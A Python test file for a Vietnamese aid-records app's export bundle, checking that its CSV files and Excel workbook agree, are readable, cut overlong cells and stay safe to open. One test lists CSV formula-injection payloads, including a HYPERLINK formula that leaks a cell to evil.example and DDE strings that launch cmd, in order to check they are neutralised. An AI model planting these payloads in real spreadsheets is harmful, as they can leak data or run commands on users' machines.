"""The bundle's CSV files and workbook: the same rows, written for people, safe to open."""

from __future__ import annotations

import datetime as dt
import io
import json
import re
import tempfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from huedesk.archive import export, export_bundle, verify_bundle
from huedesk.archive.pipeline import TableMaker, TableMakerFailed
from huedesk.archive.table_layout import table_columns
from huedesk.archive.tables import (
    CUT_PATTERN,
    EXCEL_CELL_LIMIT,
    read_csv_rows,
    save_workbook,
    unneutralise,
    write_sheet,
)
from huedesk.db.engine import Database
from huedesk.paths import scratch_dir
from huedesk.reading import VI, from_spreadsheet_number, read_decimal


def _same_cell(text: str, value: Any) -> bool:
    """A CSV cell and the workbook's cell show the same thing (numbers and dates compared as such)."""
    if value is None:
        return text == ""
    if isinstance(value, dt.datetime):
        return text in (value.strftime("%d/%m/%Y"), value.strftime("%d/%m/%Y %H:%M"))
    if isinstance(value, int | float) and not isinstance(value, bool):
        return read_decimal(text, VI) == from_spreadsheet_number(value)
    return unneutralise(text) == str(value)


def test_workbook_and_csv_show_the_same_rows(
    db: Database, filled: dict[str, Any], tmp_path: Path
) -> None:
    bundle = tmp_path / "all.zip"
    report = export_bundle(db, bundle)
    with zipfile.ZipFile(bundle) as zf:
        book = load_workbook(io.BytesIO(zf.read("tables/records.xlsx")), read_only=True)
        assert set(book.sheetnames) == set(report.counts)
        for kind, count in report.counts.items():
            raw = zf.read(f"tables/{kind}.csv")
            assert raw.startswith(b"\xef\xbb\xbf")  # BOM for spreadsheet programs
            csv_rows = read_csv_rows(raw)
            sheet = list(book[kind].iter_rows(values_only=True))
            assert len(csv_rows) == len(sheet) == count + 1
            assert list(sheet[0]) == csv_rows[0] == [c.header for c in table_columns(kind)]
            for text_row, sheet_row in zip(csv_rows[1:], sheet[1:], strict=True):
                pairs = zip(text_row, sheet_row, strict=True)
                assert all(_same_cell(t, v) for t, v in pairs), (kind, text_row, sheet_row)


def _table(zf: zipfile.ZipFile, kind: str) -> list[dict[str, str]]:
    rows = read_csv_rows(zf.read(f"tables/{kind}.csv"))
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_tables_are_written_for_people(
    db: Database, filled: dict[str, Any], tmp_path: Path
) -> None:
    bundle = tmp_path / "all.zip"
    export_bundle(db, bundle)
    donor_ref = filled["aid_project"]["donor_id"]
    with zipfile.ZipFile(bundle) as zf:
        (project,) = _table(zf, "aid_project")
        (tx,) = _table(zf, "aid_transaction")
        (delegation,) = _table(zf, "delegation")
        records = [json.loads(x) for x in zf.read("records/aid_project.jsonl").splitlines()]
        book = load_workbook(io.BytesIO(zf.read("tables/records.xlsx")))
    # Labels as headers; amounts in the major unit beside their currency; enum labels.
    assert project["Giá trị cam kết"] == "1250000,50" and project["Loại tiền"] == "USD"
    assert project["Lĩnh vực"] == "Y tế" and project["Tình trạng"] == "Đã phê duyệt"
    assert project["Ngày phê duyệt"] == "01/03/2025"
    assert project["Nhà tài trợ"].startswith("KOICA (TC-")
    assert project["Nhà tài trợ (UUID)"] == records[0]["donor_id"]
    assert list(project)[-4:] == ["Mã định danh", "Tạo lúc", "Sửa lúc", "Nhà tài trợ (UUID)"]
    assert records[0]["committed_amount"] == 125_000_050  # the JSON Lines stay exact
    assert tx["Dự án"] == f"Nâng cấp trạm y tế xã ({filled['aid_project']['ref']})"
    assert tx["Tỷ giá quy đổi (đồng)"] == "25400,5" and tx["Số tiền"] == "2500,50"
    assert delegation["Quốc gia"] == "Hàn Quốc (KR)"
    assert donor_ref
    sheet = book["aid_project"]
    header = [c.value for c in sheet[1]]
    amount = sheet.cell(2, header.index("Giá trị cam kết") + 1)
    assert amount.value == 1250000.5 and amount.number_format == "#,##0.00"
    approved = sheet.cell(2, header.index("Ngày phê duyệt") + 1)
    assert approved.value == dt.datetime(2025, 3, 1) and approved.number_format == "dd/mm/yyyy"
    assert sheet[1][0].font.b and sheet.freeze_panes == "A2"


def test_tables_in_english(db: Database, filled: dict[str, Any], tmp_path: Path) -> None:
    bundle = tmp_path / "en.zip"
    export_bundle(db, bundle, lang="en")
    with zipfile.ZipFile(bundle) as zf:
        (project,) = _table(zf, "aid_project")
        manifest = json.loads(zf.read("manifest.json"))
    assert project["Committed amount"] == "1250000.50" and project["Sector"] == "Health"
    assert manifest["tables"]["language"] == "en"


HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_formulas_in_titles_are_neutralised_in_csv_only(
    db: Database, svc: Any, tmp_path: Path
) -> None:
    for title in HOSTILE:
        svc.create(
            "event",
            {
                "title": title,
                "event_type": "festival",
                "start_date": "01/06/2025",
                "status": "planned",
            },
        )
    bundle = tmp_path / "hostile.zip"
    export_bundle(db, bundle)
    with zipfile.ZipFile(bundle) as zf:
        cells = [r["Tên sự kiện"] for r in _table(zf, "event")]
        records = [json.loads(x) for x in zf.read("records/event.jsonl").splitlines()]
        manifest = json.loads(zf.read("manifest.json"))
        book = load_workbook(io.BytesIO(zf.read("tables/records.xlsx")))
    stored = [r["title"] for r in records]
    assert stored == [t.strip() if t[0] in "\t\r" else t for t in HOSTILE]  # JSON exact
    assert all(c.startswith("'") for c in cells)
    assert [unneutralise(c) for c in cells] == stored
    assert manifest["tables"]["neutralised_cells"] == len(HOSTILE)
    sheet = book["event"]
    column = [c.value for c in sheet[1]].index("Tên sự kiện") + 1
    titles = [sheet.cell(r, column) for r in range(2, len(HOSTILE) + 2)]
    assert [c.value for c in titles] == stored  # text, never a formula
    assert {c.data_type for c in titles} == {"s"}


def test_overlong_cells_are_cut_and_listed(db: Database, svc: Any, tmp_path: Path) -> None:
    notes = "Biên bản làm việc. " * 3000  # 57,000 characters
    event = svc.create(
        "event",
        {
            "title": "Hội thảo quốc tế",
            "event_type": "conference",
            "start_date": "01/06/2025",
            "status": "planned",
            "notes": notes,
        },
    )
    bundle = tmp_path / "long.zip"
    export_bundle(db, bundle)
    with zipfile.ZipFile(bundle) as zf:
        (row,) = _table(zf, "event")
        (record,) = [json.loads(x) for x in zf.read("records/event.jsonl").splitlines()]
        manifest = json.loads(zf.read("manifest.json"))
        book = load_workbook(io.BytesIO(zf.read("tables/records.xlsx")))
    assert record["notes"] == notes.strip()
    cell = row["Ghi chú"]
    assert len(cell) == EXCEL_CELL_LIMIT and CUT_PATTERN.search(cell)
    assert cell.startswith("Biên bản làm việc.")
    sheet = book["event"]
    column = [c.value for c in sheet[1]].index("Ghi chú") + 1
    assert sheet.cell(2, column).value == cell
    assert manifest["tables"]["overlong_cells"] == [
        {
            "table": "tables/event.csv",
            "row": 2,
            "column": "Ghi chú",
            "field": "notes",
            "uuid": event["uuid"],
            "length": len(notes.strip()),
        }
    ]


def _members(bundle: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(bundle) as zf:
        out = {n: zf.read(n) for n in zf.namelist() if n != "manifest.json"}
        # The IATI file says when it was made: the one part that may differ between exports.
        out["iati/aid-activities.xml"] = re.sub(
            rb'generated-datetime="[^"]*"', b"", out["iati/aid-activities.xml"]
        )
        book = zipfile.ZipFile(io.BytesIO(out.pop("tables/records.xlsx")))
        out.update({f"xlsx:{n}": book.read(n) for n in book.namelist()})
    return out


def test_worker_process_makes_the_same_tables(
    db: Database, filled: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    inline = tmp_path / "inline.zip"
    export_bundle(db, inline)
    monkeypatch.setattr(export, "PARALLEL_FROM", 1)  # as for a large office database
    parallel = tmp_path / "parallel.zip"
    export_bundle(db, parallel)
    assert verify_bundle(parallel).ok
    assert _members(parallel) == _members(inline)


def test_worker_handles_vietnamese_folder_names(
    db: Database, filled: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "Nguyễn Thị Huế" / "Tài liệu"
    folder.mkdir(parents=True)
    monkeypatch.setenv("TMPDIR", str(folder))  # the worker's files live in the temp folder
    monkeypatch.setattr(tempfile, "tempdir", None)
    monkeypatch.setattr(export, "PARALLEL_FROM", 1)
    bundle = folder / "hồ sơ.zip"
    export_bundle(db, bundle)
    assert verify_bundle(bundle).ok


def test_failing_table_worker_leaves_no_bundle(
    db: Database, filled: dict[str, Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(export, "PARALLEL_FROM", 1)
    real = TableMaker.tables

    def lost_file(self: TableMaker, jsonl: Path, *args: Any) -> Any:
        return real(self, jsonl.with_name("missing.jsonl"), *args)

    monkeypatch.setattr(TableMaker, "tables", lost_file)
    bundle = tmp_path / "out" / "all.zip"
    with pytest.raises(TableMakerFailed, match=r"missing\.jsonl"):
        export_bundle(db, bundle)
    assert not bundle.exists()
    assert not bundle.parent.exists() or list(bundle.parent.iterdir()) == []
    assert not list(scratch_dir(db.path).glob("*/*"))  # the export's scratch folder is gone


def test_sheet_cells_keep_markup_and_edge_spaces(tmp_path: Path) -> None:
    header = ["a", "b", "c", "d"]
    sheet = tmp_path / "sheet.xml"
    write_sheet(sheet, header, [[" Huế ", "<Đà Nẵng> & Hội An", 10**16, True]])
    save_workbook(tmp_path / "book.xlsx", [("thử", sheet)])
    rows = list(load_workbook(tmp_path / "book.xlsx").active.iter_rows(values_only=True))
    assert rows == [tuple(header), (" Huế ", "<Đà Nẵng> & Hội An", str(10**16), 1)]
